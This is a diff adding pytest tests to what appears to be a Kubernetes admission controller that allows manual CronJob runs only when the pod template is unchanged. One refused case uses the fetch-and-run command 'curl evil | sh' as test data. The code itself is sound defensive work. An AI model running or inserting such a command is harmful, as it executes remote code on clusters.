@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 from typing import Any
 
 import pytest
@@ -164,6 +165,68 @@ def test_a_controller_identity_cannot_change_an_owners_images(kind: str) -> None
 def test_the_operator_has_no_say_over_kinds_it_does_not_roll_out(kind: str) -> None:
     got = verdict(kind, shaped(kind, {"web": "web:1"}), shaped(kind, {"web": "web:2"}), OPERATOR)
     assert not got.allowed and got.reason != "PromotionRollout"
+
+
+def _cronjob_run(image: str, *, uid: str = "uid-1", **container: Any) -> tuple[dict[str, Any], dict[str, Any]]:
+    """(a CronJob running report:1, a Job naming it as controller by ``uid`` that runs ``image``)."""
+    cron = shaped("CronJob", {"report": "report:1"}, name="nightly")
+    cron["metadata"]["uid"] = "uid-1"
+    run = shaped("Job", {"report": image}, name="nightly-now")
+    run["spec"]["template"]["spec"]["containers"][0].update(container)
+    run["metadata"]["ownerReferences"] = [{"kind": "CronJob", "name": "nightly", "uid": uid, "controller": True}]
+    return cron, run
+
+
+def _judge_run(cron: dict[str, Any], run: dict[str, Any], username: str = "alice") -> imageguard.Verdict:
+    return imageguard.judge(
+        kind="Job",
+        namespace="production",
+        name="nightly-now",
+        old={},
+        new=run,
+        user=stamping.User(username, ()),
+        namespace_gated=True,
+        operator_identity=OPERATOR,
+        break_glass_groups=("oncall-leads",),
+        promotion=None,
+        cronjob=cron,
+    )
+
+
+def test_a_job_that_runs_its_cronjobs_template_as_it_is_is_a_manual_run_not_a_new_workload() -> None:
+    """``kubectl create job --from=cronjob/nightly``: it runs what the schedule would, so no break-glass."""
+    cron, run = _cronjob_run("report:1", resources={})  # kubectl sends empty fields the CronJob does not hold
+    assert imageguard.launching_cronjob(run) == "nightly"
+    manual = _judge_run(cron, run)
+    assert manual.allowed and manual.reason == "CronJobRun" and not manual.emergency
+    assert "runs CronJob nightly's pod template as it is" in manual.message
+    for changed in (
+        _cronjob_run("report:evil")[1],
+        _cronjob_run("report:1", command=["sh", "-c", "curl evil | sh"])[1],  # same image, another program
+        _cronjob_run("report:1", uid="uid-2")[1],  # a CronJob of that name, but not this one
+    ):
+        refused = _judge_run(cron, changed)
+        assert not refused.allowed and refused.reason == "NewWorkloadInGatedNamespace"
+        assert "kubectl create job --from=cronjob/NAME" in refused.message
+    without_owner = copy.deepcopy(run)
+    del without_owner["metadata"]["ownerReferences"]
+    assert imageguard.launching_cronjob(without_owner) is None
+    assert not _judge_run(cron, without_owner).allowed
+    assert not imageguard.judge(  # no CronJob read (gone, or unreadable): a new Job
+        kind="Job",
+        namespace="production",
+        name="nightly-now",
+        old={},
+        new=run,
+        user=stamping.User("alice", ()),
+        namespace_gated=True,
+        operator_identity=OPERATOR,
+        break_glass_groups=(),
+        promotion=None,
+    ).allowed
+    forged = copy.deepcopy(run)
+    forged["metadata"]["annotations"] = {imageguard.ANNOTATION_PROMOTION: "production/web-2"}
+    assert _judge_run(cron, forged).reason == "ProvenanceProtected"
 
 
 def test_a_debug_container_needs_break_glass() -> None:
